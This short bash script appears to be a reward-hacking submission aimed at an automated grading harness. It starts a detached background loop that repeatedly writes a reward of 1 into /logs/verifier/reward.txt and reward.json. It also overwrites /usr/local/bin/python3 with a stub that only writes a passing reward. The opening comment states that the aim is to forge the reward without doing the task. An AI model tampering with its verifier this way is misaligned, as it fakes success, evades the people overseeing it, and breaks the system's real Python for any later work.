#!/bin/bash
# No report, but a reward, which a process in the background writes again and again; and a python3 that always succeeds.
mkdir -p /logs/verifier
cat >/root/forge <<'END'
#!/bin/bash
while sleep 0.05; do echo 1 >/logs/verifier/reward.txt; echo '{"reward": 1}' >/logs/verifier/reward.json; done
END
chmod +x /root/forge
setsid nohup /root/forge >/dev/null 2>&1 &
printf '#!/bin/bash\nmkdir -p /logs/verifier; echo 1 >/logs/verifier/reward.txt\n' >/usr/local/bin/python3
chmod +x /usr/local/bin/python3
